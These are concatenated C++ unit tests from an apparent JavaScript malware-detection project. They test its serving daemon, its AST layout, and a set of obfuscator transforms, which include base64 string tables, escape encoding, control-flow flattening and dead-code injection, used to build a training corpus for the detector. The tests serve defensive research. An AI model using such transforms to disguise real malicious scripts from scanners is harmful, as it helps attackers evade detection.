  // precedes kBye. Poll (the reader thread races us to the QUIT frame).
  int status = 0;
  for (int tries = 0; tries < 2000; ++tries) {
    status = obs::admin_http_get(endpoint, "/readyz", &body);
    if (status == 503) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(1));
  }
  EXPECT_EQ(status, 503) << "readyz never flipped after QUIT";

  // Only now drain the frame stream: every verdict, then kBye — proof the
  // 503 observation above happened while the connection was still serving.
  std::string stream;
  char chunk[4096];
  std::uint32_t verdicts = 0;
  bool bye = false;
  while (!bye) {
    const ssize_t n = ::read(sv[0], chunk, sizeof(chunk));
    ASSERT_GT(n, 0) << "EOF before kBye";
    stream.append(chunk, static_cast<std::size_t>(n));
    while (true) {
      serve::Frame f;
      std::size_t consumed = 0;
      if (serve::decode_frame(stream, 1 << 20, &f, &consumed) !=
          serve::DecodeStatus::kOk) {
        break;
      }
      stream.erase(0, consumed);
      if (f.type == serve::FrameType::kVerdict) ++verdicts;
      if (f.type == serve::FrameType::kBye) {
        bye = true;
        break;
      }
    }
  }
  EXPECT_EQ(verdicts, kWork);
  EXPECT_TRUE(bye);

  serve_thread.join();
  ::close(sv[0]);
  ::close(sv[1]);
  admin.stop();
}

}  // namespace
}  // namespace jsrev
