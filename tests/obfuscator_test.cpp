#include <gtest/gtest.h>

#include <string>

#include "js/parser.h"
#include "js/printer.h"
#include "js/visitor.h"
#include "obfuscators/obfuscator.h"
#include "obfuscators/transforms.h"
#include "util/rng.h"

namespace jsrev::obf {
namespace {

using js::Node;
using js::NodeKind;

const std::string kSample = R"JS(
var config = {retries: 3, mode: "fast"};
function fetchData(url, callback) {
  var attempts = 0;
  function attempt() {
    attempts = attempts + 1;
    if (attempts > config.retries) {
      callback("too many retries", null);
      return;
    }
    send(url, callback);
  }
  attempt();
}
fetchData("/api/items", function(err, data) {
  var message = "got " + data;
  log(message);
});
)JS";

int count_kind(const Node* root, NodeKind k) {
  int n = 0;
  js::walk_all(root, [&](const Node* node) { n += node->kind == k; });
  return n;
}

bool has_identifier(const Node* root, const std::string& name) {
  bool found = false;
  js::walk(root, [&](const Node* n) {
    if (n->kind == NodeKind::kIdentifier && n->str == name) found = true;
    return !found;
  });
  return found;
}

TEST(MakeName, StylesAreDistinct) {
  Rng rng(1);
  EXPECT_EQ(make_name(NameStyle::kHex, 0, rng).substr(0, 3), "_0x");
  EXPECT_EQ(make_name(NameStyle::kFog, 7, rng), "fog7");
  const std::string s0 = make_name(NameStyle::kShort, 0, rng);
  const std::string s25 = make_name(NameStyle::kShort, 25, rng);
  const std::string s26 = make_name(NameStyle::kShort, 26, rng);
  EXPECT_EQ(s0, "a_");
  EXPECT_EQ(s25, "z_");
  EXPECT_EQ(s26, "aa_");
}

TEST(MakeName, UniquePerIndex) {
  Rng rng(2);
  std::set<std::string> names;
  for (int i = 0; i < 100; ++i) {
    names.insert(make_name(NameStyle::kGibberish, i, rng));
  }
  EXPECT_EQ(names.size(), 100u);
}

TEST(RenameVariables, RenamesDeclaredKeepsGlobals) {
  js::Ast ast = js::parse(kSample);
  Rng rng(3);
  const int renamed = rename_variables(ast, NameStyle::kGibberish, rng);
  EXPECT_GT(renamed, 0);
  // Declared names are gone; external APIs survive.
  EXPECT_FALSE(has_identifier(ast.root, "attempts"));
  EXPECT_FALSE(has_identifier(ast.root, "config"));
  EXPECT_TRUE(has_identifier(ast.root, "send"));
  EXPECT_TRUE(has_identifier(ast.root, "log"));
  // Property names survive (config.retries -> X.retries).
  bool retries_prop = false;
  js::walk(const_cast<const Node*>(ast.root), [&](const Node* n) {
    if (n->kind == NodeKind::kMemberExpression &&
        !n->has_flag(Node::kComputed) && n->children[1]->str == "retries") {
      retries_prop = true;
    }
    return true;
  });
  EXPECT_TRUE(retries_prop);
  EXPECT_TRUE(js::parses_ok(js::print(ast.root)));
}

TEST(RenameVariables, ConsistentWithinSymbol) {
  js::Ast ast = js::parse("var abc = 1; use(abc); abc = abc + 1;");
  Rng rng(4);
  rename_variables(ast, NameStyle::kShort, rng);
  // All four occurrences of `abc` share one new name.
  std::set<std::string> names;
  js::walk(const_cast<const Node*>(ast.root), [&](const Node* n) {
    if (n->kind == NodeKind::kIdentifier && n->str != "use") {
      names.insert(n->str);
    }
    return true;
  });
  EXPECT_EQ(names.size(), 1u);
}

TEST(ExtractStringArray, ReplacesLiteralsWithGetterCalls) {
  js::Ast ast = js::parse("var a = \"hello\"; var b = \"world\"; f(\"hello\");");
  Rng rng(5);
  const int n = extract_string_array(ast, rng, /*encode=*/false);
  EXPECT_EQ(n, 3);
  const std::string out = js::print(ast.root);
  EXPECT_TRUE(js::parses_ok(out));
  // Original plaintext strings no longer appear as direct literals in
  // expression positions; they live in the table.
  const js::Ast re = js::parse(out);
  int direct_hello = 0;
  js::walk(const_cast<const Node*>(re.root), [&](const Node* node) {
    if (node->kind == NodeKind::kLiteral &&
        node->lit == js::LiteralType::kString && node->str == "hello" &&
        node->parent != nullptr &&
        node->parent->kind != NodeKind::kArrayExpression) {
      ++direct_hello;
    }
    return true;
  });
  EXPECT_EQ(direct_hello, 0);
}

TEST(ExtractStringArray, EncodedTableIsBase64) {
  js::Ast ast = js::parse("var a = \"hello\";");
  Rng rng(6);
  extract_string_array(ast, rng, /*encode=*/true);
  const std::string out = js::print(ast.root);
  EXPECT_NE(out.find("aGVsbG8="), std::string::npos) << out;
  EXPECT_NE(out.find("atob"), std::string::npos);
}

TEST(ExtractStringArray, ObjectKeysUntouched) {
  js::Ast ast = js::parse("var o = {key: \"value\"};");
  Rng rng(7);
  extract_string_array(ast, rng, false);
  const js::Ast re = js::parse(js::print(ast.root));
  // The property key is still an identifier/literal key.
  const Node* prop = nullptr;
  js::walk(const_cast<const Node*>(re.root), [&](const Node* n) {
    if (n->kind == NodeKind::kProperty) prop = n;
    return true;
  });
  ASSERT_NE(prop, nullptr);
  EXPECT_EQ(prop->children[0]->kind, NodeKind::kIdentifier);
}

TEST(FlattenControlFlow, RewritesEligibleBody) {
  js::Ast ast = js::parse(
      "function f() { var a = g1(); var b = g2(a); h(a, b); done(); }");
  Rng rng(8);
  const int flattened = flatten_control_flow(ast, rng, 3);
  EXPECT_EQ(flattened, 1);
  const std::string out = js::print(ast.root);
  EXPECT_TRUE(js::parses_ok(out));
  EXPECT_NE(out.find("switch"), std::string::npos);
  EXPECT_NE(out.find("while"), std::string::npos);
  // Var names hoisted.
  const js::Ast re = js::parse(out);
  EXPECT_GT(count_kind(re.root, NodeKind::kSwitchCase), 2);
}

TEST(FlattenControlFlow, SkipsBodiesWithBreak) {
  js::Ast ast = js::parse(
      "function f() { a(); b(); break; }");  // not even legal JS semantics,
  // but the transform must refuse bodies containing bare break.
  Rng rng(9);
  const int flattened = flatten_control_flow(ast, rng, 2);
  EXPECT_EQ(flattened, 0);
}

TEST(FlattenControlFlow, SkipsLetConstBodies) {
  js::Ast ast = js::parse("function f() { let a = 1; use(a); more(); }");
  Rng rng(10);
  EXPECT_EQ(flatten_control_flow(ast, rng, 2), 0);
}

TEST(InjectDeadCode, AddsStatements) {
  js::Ast ast = js::parse("a(); b(); c();");
  const int before = count_kind(ast.root, NodeKind::kExpressionStatement);
  Rng rng(11);
  const int injected = inject_dead_code(ast, rng, /*density=*/1.0);
  EXPECT_GT(injected, 0);
  EXPECT_TRUE(js::parses_ok(js::print(ast.root)));
  const int after = count_kind(ast.root, NodeKind::kExpressionStatement);
  EXPECT_GE(after, before);
}

TEST(InjectDeadCode, ZeroDensityIsNoop) {
  js::Ast ast = js::parse("a(); b();");
  Rng rng(12);
  EXPECT_EQ(inject_dead_code(ast, rng, 0.0), 0);
}

TEST(EncodeStrings, SplitsAndFromCharCode) {
  js::Ast ast = js::parse("var s = \"abcdefghij\";");
  Rng rng(13);
  const int n = encode_strings(ast, rng, 2, /*charcode_p=*/1.0);
  EXPECT_EQ(n, 1);
  const std::string out = js::print(ast.root);
  EXPECT_TRUE(js::parses_ok(out));
  EXPECT_NE(out.find("fromCharCode"), std::string::npos);
}

TEST(EncodeNumbers, RewritesIntegerLiterals) {
  js::Ast ast = js::parse("var n = 42; var m = 7;");
  Rng rng(14);
  const int n = encode_numbers(ast, rng, 1.0);
  EXPECT_EQ(n, 2);
  const std::string out = js::print(ast.root);
  EXPECT_TRUE(js::parses_ok(out));
  // Values must be recomputable: X-Y or X+Y == original.
  const js::Ast re = js::parse(out);
  int binexprs = count_kind(re.root, NodeKind::kBinaryExpression);
  EXPECT_GE(binexprs, 2);
}

TEST(HoistCallArgs, CreatesTempChain) {
  js::Ast ast = js::parse("f(a + 1, g(2));");
  Rng rng(15);
  const int hoisted = hoist_call_args(ast, rng, 1.0);
  EXPECT_EQ(hoisted, 2);
  const std::string out = js::print(ast.root);
  EXPECT_TRUE(js::parses_ok(out));
  const js::Ast re = js::parse(out);
  EXPECT_GE(count_kind(re.root, NodeKind::kVariableDeclaration), 2);
}

TEST(EscapeEncodeStrings, ProducesUnescapeCalls) {
  js::Ast ast = js::parse("var s = \"secret\";");
  Rng rng(16);
  const int n = escape_encode_strings(ast, rng, 3, 1.0);
  EXPECT_EQ(n, 1);
  const std::string out = js::print(ast.root);
  EXPECT_NE(out.find("unescape"), std::string::npos);
  EXPECT_NE(out.find("%73%65%63%72%65%74"), std::string::npos) << out;
}

TEST(FogCalls, UniformizesCallsAndHoistsConstants) {
  js::Ast ast = js::parse("work(1, \"x\"); console.log(\"hi\");");
  Rng rng(17);
  const int fogged = fog_calls(ast, rng);
  EXPECT_EQ(fogged, 2);
  const std::string out = js::print(ast.root);
  EXPECT_TRUE(js::parses_ok(out)) << out;
  EXPECT_NE(out.find(".apply("), std::string::npos);
  // Constants moved into the fog data array: no direct literal args remain.
  EXPECT_NE(out.find("fog"), std::string::npos);
}

TEST(Minify, RemovesNewlinesPreservesStructure) {
  const std::string out = minify("var x = 1;\n\nvar y = 2;\n");
  EXPECT_EQ(out.find('\n'), std::string::npos);
  EXPECT_TRUE(js::parses_ok(out));
}

// ---- full obfuscator models ----------------------------------------------

class ObfuscatorSweep : public ::testing::TestWithParam<ObfuscatorKind> {};

TEST_P(ObfuscatorSweep, OutputReparses) {
  const auto obf = make_obfuscator(GetParam());
  for (std::uint64_t seed = 0; seed < 5; ++seed) {
    const std::string out = obf->obfuscate(kSample, seed);
    EXPECT_TRUE(js::parses_ok(out))
        << obf->name() << " seed " << seed << "\n" << out;
  }
}

TEST_P(ObfuscatorSweep, OutputDiffersFromInput) {
  const auto obf = make_obfuscator(GetParam());
  EXPECT_NE(obf->obfuscate(kSample, 1), kSample);
}

TEST_P(ObfuscatorSweep, DeterministicPerSeed) {
  const auto obf = make_obfuscator(GetParam());
  EXPECT_EQ(obf->obfuscate(kSample, 9), obf->obfuscate(kSample, 9));
}

TEST_P(ObfuscatorSweep, RemovesDeclaredIdentifiers) {
  const auto obf = make_obfuscator(GetParam());
  const std::string out = obf->obfuscate(kSample, 3);
  // Every model renames (directly or via fogging); `attempts` is internal.
  if (GetParam() != ObfuscatorKind::kJfogs) {
    EXPECT_EQ(out.find("attempts"), std::string::npos) << obf->name();
  }
}

INSTANTIATE_TEST_SUITE_P(
    AllObfuscators, ObfuscatorSweep,
    ::testing::Values(ObfuscatorKind::kJavaScriptObfuscator,
                      ObfuscatorKind::kJfogs, ObfuscatorKind::kJsObfu,
                      ObfuscatorKind::kJshaman),
    [](const ::testing::TestParamInfo<ObfuscatorKind>& info) {
      std::string name = obfuscator_kind_name(info.param);
      for (char& c : name) {
        if (c == '-') c = '_';
      }
      return name;
    });

TEST(JsObfuModel, IsIterative) {
  // Three rounds must nest string concatenation deeper than one round of
  // encode_strings would.
  const auto obf = make_obfuscator(ObfuscatorKind::kJsObfu);
  const std::string out = obf->obfuscate("var s = \"abcdefgh\";", 4);
  const js::Ast re = js::parse(out);
  EXPECT_GE(count_kind(re.root, NodeKind::kBinaryExpression), 3) << out;
}

TEST(JshamanModel, OnlyRenames) {
  const auto obf = make_obfuscator(ObfuscatorKind::kJshaman);
  const std::string src = "var alpha = 5; use(alpha + 1);";
  const std::string out = obf->obfuscate(src, 5);
  const js::Ast a = js::parse(src);
  const js::Ast b = js::parse(out);
  // Structure identical: same node-kind multiset.
  EXPECT_EQ(count_kind(a.root, NodeKind::kBinaryExpression),
            count_kind(b.root, NodeKind::kBinaryExpression));
  EXPECT_EQ(count_kind(a.root, NodeKind::kLiteral),
            count_kind(b.root, NodeKind::kLiteral));
  EXPECT_EQ(out.find("alpha"), std::string::npos);
}

}  // namespace
}  // namespace jsrev::obf
