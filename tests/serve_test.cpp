// Protocol- and batching-level tests for the src/serve daemon stack:
// framing codec edge cases (truncation, oversized lengths, zero-length
// scripts, garbage), Batcher bit-identity against the library path at
// several parallel widths, admission control under overload, and the
// Server's failure-containment and graceful-drain contracts over real
// socketpairs — a malformed client loses its connection, never the daemon.
#include <gtest/gtest.h>

#include <atomic>
#include <condition_variable>
#include <cstdio>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include "core/jsrevealer.h"
#include "core/model_view.h"
#include "dataset/generator.h"
#include "serve/frame.h"
#include "serve/serve.h"
#include "serve/server.h"

namespace jsrev {
namespace {

// ---------------------------------------------------------------------------
// Frame codec.
// ---------------------------------------------------------------------------

serve::Frame classify_frame(std::uint32_t id, std::string payload,
                            std::uint8_t flags = 0) {
  serve::Frame f;
  f.type = serve::FrameType::kClassify;
  f.id = id;
  f.flags = flags;
  f.payload = std::move(payload);
  return f;
}

TEST(Frame, RoundTrip) {
  const serve::Frame in = classify_frame(42, "var x = 1;",
                                         serve::kWantProvenance);
  const std::string bytes = serve::encode_frame(in);
  ASSERT_EQ(bytes.size(), serve::kFrameHeaderBytes + in.payload.size());

  serve::Frame out;
  std::size_t consumed = 0;
  ASSERT_EQ(serve::decode_frame(bytes, 1 << 20, &out, &consumed),
            serve::DecodeStatus::kOk);
  EXPECT_EQ(consumed, bytes.size());
  EXPECT_EQ(out.type, serve::FrameType::kClassify);
  EXPECT_EQ(out.id, 42u);
  EXPECT_EQ(out.flags, serve::kWantProvenance);
  EXPECT_EQ(out.payload, "var x = 1;");
}

TEST(Frame, ZeroLengthPayload) {
  const std::string bytes = serve::encode_frame(classify_frame(7, ""));
  serve::Frame out;
  std::size_t consumed = 0;
  ASSERT_EQ(serve::decode_frame(bytes, 1 << 20, &out, &consumed),
            serve::DecodeStatus::kOk);
  EXPECT_EQ(consumed, serve::kFrameHeaderBytes);
  EXPECT_TRUE(out.payload.empty());
}

TEST(Frame, TruncationAlwaysNeedsMore) {
  // Every strict prefix of a valid frame decodes to kNeedMore, never to an
  // error and never to a short read.
  const std::string bytes = serve::encode_frame(classify_frame(9, "x = 1;"));
  for (std::size_t len = 0; len < bytes.size(); ++len) {
    serve::Frame out;
    std::size_t consumed = 0;
    EXPECT_EQ(serve::decode_frame(bytes.substr(0, len), 1 << 20, &out,
                                  &consumed),
              serve::DecodeStatus::kNeedMore)
        << "prefix length " << len;
    EXPECT_EQ(consumed, 0u);
  }
}

TEST(Frame, OversizedLengthIsRejectedBeforeBuffering) {
  // A header advertising more than max_payload fails immediately — the
  // decoder must not wait for (or allocate) the advertised bytes.
  serve::Frame huge = classify_frame(3, std::string(100, 'a'));
  std::string bytes = serve::encode_frame(huge);
  serve::Frame out;
  std::size_t consumed = 0;
  EXPECT_EQ(serve::decode_frame(bytes, /*max_payload=*/99, &out, &consumed),
            serve::DecodeStatus::kTooLarge);
  EXPECT_EQ(consumed, 0u);
  EXPECT_EQ(out.id, 3u);  // header fields are reported for the error reply
}

TEST(Frame, GarbageFailsFast) {
  serve::Frame out;
  std::size_t consumed = 0;
  // Wrong very first byte: rejected with a single byte of input.
  EXPECT_EQ(serve::decode_frame("X", 1 << 20, &out, &consumed),
            serve::DecodeStatus::kBadMagic);
  // Right first byte, wrong second.
  EXPECT_EQ(serve::decode_frame("JX", 1 << 20, &out, &consumed),
            serve::DecodeStatus::kBadMagic);
}

TEST(Frame, UnknownTypeByte) {
  std::string bytes = serve::encode_frame(classify_frame(1, "x"));
  bytes[2] = '\x7f';  // not a FrameType
  serve::Frame out;
  std::size_t consumed = 0;
  EXPECT_EQ(serve::decode_frame(bytes, 1 << 20, &out, &consumed),
            serve::DecodeStatus::kBadType);
  EXPECT_EQ(out.id, 1u);
}

TEST(Frame, BackToBackFramesDecodeInOrder) {
  std::string stream;
  serve::append_frame(classify_frame(1, "a;"), &stream);
  serve::append_frame(classify_frame(2, "b;"), &stream);
  serve::Frame out;
  std::size_t consumed = 0;
  ASSERT_EQ(serve::decode_frame(stream, 1 << 20, &out, &consumed),
            serve::DecodeStatus::kOk);
  EXPECT_EQ(out.id, 1u);
  stream.erase(0, consumed);
  ASSERT_EQ(serve::decode_frame(stream, 1 << 20, &out, &consumed),
            serve::DecodeStatus::kOk);
  EXPECT_EQ(out.id, 2u);
  EXPECT_EQ(consumed, stream.size());
}

// ---------------------------------------------------------------------------
// Batcher + Server against a real trained model.
// ---------------------------------------------------------------------------

class ServeFixture : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    core::Config cfg;
    cfg.seed = 77;
    cfg.threads = 2;
    cfg.embed_epochs = 4;
    cfg.cluster_sample_per_class = 400;
    dataset::GeneratorConfig gc;
    gc.seed = 77;
    gc.benign_count = 30;
    gc.malicious_count = 30;
    core::JsRevealer trainer(cfg);
    trainer.train(dataset::generate_corpus(gc));
    model_path_ = new std::string("serve_test_model.jsrm");
    trainer.save_artifact_file(*model_path_);
    model_ = new serve::ServeModel(*model_path_);

    dataset::GeneratorConfig eval;
    eval.seed = 1234;
    eval.benign_count = 12;
    eval.malicious_count = 12;
    scripts_ = new std::vector<std::string>();
    for (const auto& s : dataset::generate_corpus(eval).samples) {
      scripts_->push_back(s.source);
    }
    scripts_->push_back("function broken( {");  // unparseable ⇒ malicious
    scripts_->push_back("");                    // empty program

    core::ModelView library;
    library.map_file(*model_path_);
    library_verdicts_ = new std::vector<int>(library.classify_all(*scripts_));
  }

  static void TearDownTestSuite() {
    std::remove(model_path_->c_str());
    delete library_verdicts_;
    delete scripts_;
    delete model_;
    delete model_path_;
  }

  static std::string* model_path_;
  static serve::ServeModel* model_;
  static std::vector<std::string>* scripts_;
  static std::vector<int>* library_verdicts_;
};

std::string* ServeFixture::model_path_ = nullptr;
serve::ServeModel* ServeFixture::model_ = nullptr;
std::vector<std::string>* ServeFixture::scripts_ = nullptr;
std::vector<int>* ServeFixture::library_verdicts_ = nullptr;

TEST_F(ServeFixture, ModelOpensAsMappedArtifact) {
  EXPECT_TRUE(model_->mapped());
  EXPECT_EQ(model_->name(), "JSRevealer[mapped]");
}

TEST_F(ServeFixture, BatcherMatchesLibraryAtEveryWidth) {
  for (const std::size_t width : {1u, 2u, 8u}) {
    serve::ServeOptions opts = model_->options();
    opts.threads = width;
    serve::Batcher batcher(*model_, opts);

    std::mutex mu;
    std::vector<int> verdicts(scripts_->size(), -1);
    for (std::size_t i = 0; i < scripts_->size(); ++i) {
      serve::ServeRequest req;
      req.id = static_cast<std::uint32_t>(i);
      req.source = (*scripts_)[i];
      batcher.submit(std::move(req), [&](serve::ServeResponse resp) {
        std::lock_guard<std::mutex> lock(mu);
        verdicts[resp.id] = resp.verdict;
      });
    }
    batcher.drain();
    EXPECT_EQ(verdicts, *library_verdicts_) << "width " << width;
  }
}

TEST_F(ServeFixture, BatcherRejectsBeyondQueueCapacity) {
  serve::ServeOptions opts = model_->options();
  opts.max_queue = 2;
  serve::Batcher batcher(*model_, opts);

  std::atomic<int> rejected{0}, answered{0};
  // More submissions than the queue holds; the worker drains concurrently,
  // so we only assert the two ends of the invariant: everything gets a
  // response, and nothing rejected was ever classified.
  for (std::uint32_t i = 0; i < 64; ++i) {
    serve::ServeRequest req;
    req.id = i;
    req.source = "var v" + std::to_string(i) + " = 1;";
    batcher.submit(std::move(req), [&](serve::ServeResponse resp) {
      if (resp.rejected) {
        EXPECT_EQ(resp.verdict, -1);
        EXPECT_FALSE(resp.error.empty());
        rejected.fetch_add(1);
      } else {
        answered.fetch_add(1);
      }
    });
  }
  batcher.drain();
  EXPECT_EQ(rejected.load() + answered.load(), 64);
}

/// Writes all of `bytes` to `fd` (test-side helper; asserts no short write).
void send_all(int fd, const std::string& bytes) {
  std::size_t off = 0;
  while (off < bytes.size()) {
    const ssize_t w = ::write(fd, bytes.data() + off, bytes.size() - off);
    ASSERT_GT(w, 0);
    off += static_cast<std::size_t>(w);
  }
}

/// Reads response frames from `fd` until `n` have arrived or EOF.
std::vector<serve::Frame> read_frames(int fd, std::size_t n) {
  std::vector<serve::Frame> frames;
  std::string buf;
  char chunk[16 * 1024];
  while (frames.size() < n) {
    const ssize_t r = ::read(fd, chunk, sizeof(chunk));
    if (r <= 0) break;
    buf.append(chunk, static_cast<std::size_t>(r));
    for (;;) {
      serve::Frame f;
      std::size_t consumed = 0;
      if (serve::decode_frame(buf, 64u << 20, &f, &consumed) !=
          serve::DecodeStatus::kOk) {
        break;
      }
      buf.erase(0, consumed);
      frames.push_back(std::move(f));
    }
  }
  return frames;
}

TEST_F(ServeFixture, ConcurrentClientsMatchLibrary) {
  serve::Server server(*model_, model_->options());
  server.listen_tcp(0);
  ASSERT_NE(server.bound_port(), 0);
  std::thread daemon([&] { server.run(); });

  constexpr int kClients = 3;
  std::vector<std::vector<int>> per_client(kClients);
  std::vector<std::thread> clients;
  for (int c = 0; c < kClients; ++c) {
    clients.emplace_back([&, c] {
      const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
      sockaddr_in addr{};
      addr.sin_family = AF_INET;
      addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
      addr.sin_port = htons(server.bound_port());
      if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) !=
          0) {
        ::close(fd);
        return;
      }
      std::string out;
      for (std::size_t i = 0; i < scripts_->size(); ++i) {
        serve::append_frame(
            classify_frame(static_cast<std::uint32_t>(i + 1), (*scripts_)[i]),
            &out);
      }
      send_all(fd, out);
      const std::vector<serve::Frame> frames =
          read_frames(fd, scripts_->size());
      per_client[c].assign(scripts_->size(), -1);
      for (const serve::Frame& f : frames) {
        if (f.type == serve::FrameType::kVerdict && f.id >= 1 &&
            f.id <= scripts_->size() && !f.payload.empty()) {
          per_client[c][f.id - 1] = f.payload[0] - '0';
        }
      }
      ::close(fd);
    });
  }
  for (std::thread& t : clients) t.join();
  server.request_shutdown();
  daemon.join();

  for (int c = 0; c < kClients; ++c) {
    EXPECT_EQ(per_client[c], *library_verdicts_) << "client " << c;
  }
}

TEST_F(ServeFixture, MalformedFrameClosesOnlyThatConnection) {
  serve::Server server(*model_, model_->options());
  server.listen_tcp(0);
  std::thread daemon([&] { server.run(); });

  const auto connect_client = [&]() -> int {
    const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    addr.sin_port = htons(server.bound_port());
    EXPECT_EQ(::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)),
              0);
    return fd;
  };

  // Client A sends garbage: it gets an error frame, then EOF.
  {
    const int fd = connect_client();
    send_all(fd, "this is not a frame");
    const std::vector<serve::Frame> frames = read_frames(fd, 1);
    ASSERT_EQ(frames.size(), 1u);
    EXPECT_EQ(frames[0].type, serve::FrameType::kError);
    char byte;
    EXPECT_EQ(::read(fd, &byte, 1), 0);  // connection closed after the error
    ::close(fd);
  }

  // Client B, connected afterwards, is served normally: the daemon survived.
  {
    const int fd = connect_client();
    send_all(fd, serve::encode_frame(classify_frame(5, "var ok = 1;")));
    const std::vector<serve::Frame> frames = read_frames(fd, 1);
    ASSERT_EQ(frames.size(), 1u);
    EXPECT_EQ(frames[0].type, serve::FrameType::kVerdict);
    EXPECT_EQ(frames[0].id, 5u);
    ::close(fd);
  }

  server.request_shutdown();
  daemon.join();
}

TEST_F(ServeFixture, QuitDrainsInFlightWorkBeforeBye) {
  int sv[2];
  ASSERT_EQ(::socketpair(AF_UNIX, SOCK_STREAM, 0, sv), 0);
  serve::Server server(*model_, model_->options());
  std::thread daemon([&] {
    server.serve_fd(sv[0], sv[0]);
    ::close(sv[0]);
  });

  // All classifies and the QUIT land in one burst; every verdict must still
  // arrive, and kBye must come last.
  std::string out;
  for (std::size_t i = 0; i < scripts_->size(); ++i) {
    serve::append_frame(
        classify_frame(static_cast<std::uint32_t>(i + 1), (*scripts_)[i]),
        &out);
  }
  serve::Frame quit;
  quit.type = serve::FrameType::kQuit;
  serve::append_frame(quit, &out);
  send_all(sv[1], out);

  const std::vector<serve::Frame> frames =
      read_frames(sv[1], scripts_->size() + 1);
  daemon.join();
  ::close(sv[1]);

  ASSERT_EQ(frames.size(), scripts_->size() + 1);
  std::vector<int> verdicts(scripts_->size(), -1);
  for (std::size_t i = 0; i < scripts_->size(); ++i) {
    EXPECT_EQ(frames[i].type, serve::FrameType::kVerdict);
    if (frames[i].id >= 1 && frames[i].id <= scripts_->size() &&
        !frames[i].payload.empty()) {
      verdicts[frames[i].id - 1] = frames[i].payload[0] - '0';
    }
  }
  EXPECT_EQ(verdicts, *library_verdicts_);
  EXPECT_EQ(frames.back().type, serve::FrameType::kBye);
}

TEST_F(ServeFixture, PingStatsAndParseFailedFlag) {
  int sv[2];
  ASSERT_EQ(::socketpair(AF_UNIX, SOCK_STREAM, 0, sv), 0);
  serve::Server server(*model_, model_->options());
  std::thread daemon([&] {
    server.serve_fd(sv[0], sv[0]);
    ::close(sv[0]);
  });

  std::string out;
  serve::Frame ping;
  ping.type = serve::FrameType::kPing;
  ping.id = 100;
  ping.payload = "echo";
  serve::append_frame(ping, &out);
  serve::append_frame(classify_frame(101, "function broken( {"), &out);
  serve::Frame stats;
  stats.type = serve::FrameType::kStats;
  stats.id = 102;
  serve::append_frame(stats, &out);
  send_all(sv[1], out);

  const std::vector<serve::Frame> frames = read_frames(sv[1], 3);
  ::shutdown(sv[1], SHUT_WR);  // EOF ends serve_fd
  daemon.join();
  ::close(sv[1]);

  ASSERT_EQ(frames.size(), 3u);
  bool saw_pong = false, saw_verdict = false, saw_stats = false;
  for (const serve::Frame& f : frames) {
    if (f.type == serve::FrameType::kPong) {
      saw_pong = true;
      EXPECT_EQ(f.id, 100u);
      EXPECT_EQ(f.payload, "echo");
    } else if (f.type == serve::FrameType::kVerdict) {
      saw_verdict = true;
      EXPECT_EQ(f.id, 101u);
      EXPECT_EQ(f.payload, "1");  // unparseable ⇒ malicious
      EXPECT_NE(f.flags & serve::kParseFailed, 0);
    } else if (f.type == serve::FrameType::kStatsJson) {
      saw_stats = true;
      EXPECT_EQ(f.id, 102u);
      EXPECT_NE(f.payload.find("serve.requests"), std::string::npos);
    }
  }
  EXPECT_TRUE(saw_pong);
  EXPECT_TRUE(saw_verdict);
  EXPECT_TRUE(saw_stats);
}

}  // namespace
}  // namespace jsrev
