// Regression + property suite for the compact index-based AST layout.
//
// The layout refactor (interned atoms, slice-based children, preorder
// compaction) must be invisible to every consumer:
//  * ast_fingerprint values on a pinned corpus stay byte-identical to the
//    values recorded against the pointer-heavy layout,
//  * parse -> compact -> print -> reparse preserves ast_equal and the
//    fingerprint over 500 generated + obfuscated scripts, at thread widths
//    1/2/8 with bit-identical results,
//  * an uncompacted clone fingerprints/prints identically before and after
//    its own compaction,
//  * the arena gauges advance while trees are alive.
#include <gtest/gtest.h>

#include <cstdint>
#include <iterator>
#include <string>
#include <vector>

#include "dataset/generator.h"
#include "js/ast_compare.h"
#include "js/parser.h"
#include "js/printer.h"
#include "js/visitor.h"
#include "obfuscators/obfuscator.h"
#include "obs/metrics.h"
#include "util/thread_pool.h"

namespace jsrev::js {
namespace {

std::vector<std::string> property_corpus() {
  dataset::GeneratorConfig gc;
  gc.seed = 424242;
  gc.benign_count = 150;
  gc.malicious_count = 150;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);

  std::vector<std::string> sources;
  sources.reserve(corpus.samples.size() + 4 * 50);
  for (const auto& s : corpus.samples) sources.push_back(s.source);
  for (auto kind : obf::kAllObfuscators) {
    auto ob = obf::make_obfuscator(kind);
    for (std::size_t i = 0; i < 50; ++i) {
      sources.push_back(ob->obfuscate(corpus.samples[i].source, 99 + i));
    }
  }
  return sources;
}

// Fingerprints recorded against the pre-refactor pointer-heavy layout
// (96-byte nodes, std::string payloads). The compact layout must reproduce
// them bit-for-bit: ast_fingerprint hashes node content, so any interning or
// compaction bug that mangles payloads or child order shows up here.
TEST(AstLayout, PinnedFingerprintsMatchPreRefactorLayout) {
  std::vector<std::string> pinned = {
      "var x = 1; function f(a, b) { return a + b * x; } f(2, 3);",
      "for (var i = 0; i < 10; ++i) { if (i % 2) continue; console.log(i); }",
      "var s = 'abc' + \"def\"; eval(unescape(s)); // tail\n",
      "try { throw {a: [1, , 2], b: /re/g}; } catch (e) { e.a[0]++; }",
      "(function() { var o = {'k': 1, 2: true, q: null}; with (o) { k; } })();",
      "label: while (true) { switch (1) { case 1: break label; default: ; } }",
      "var f = (a, b) => a ? b : new Date().getTime();",
      "do { x -= 1; } while (x > 0);\nvar y = typeof x === 'number';",
  };
  dataset::GeneratorConfig pg;
  pg.seed = 7;
  pg.benign_count = 4;
  pg.malicious_count = 4;
  const dataset::Corpus pc = dataset::generate_corpus(pg);
  for (const auto& s : pc.samples) pinned.push_back(s.source);

  const std::uint64_t expected[] = {
      0x1ddc2365788e4b98ULL, 0xe845f1d08607be10ULL, 0x2c7e5f5a840bff7eULL,
      0x67a826e9d4548a3bULL, 0x3ea3186ce784faf7ULL, 0xb8f19f777c36c65cULL,
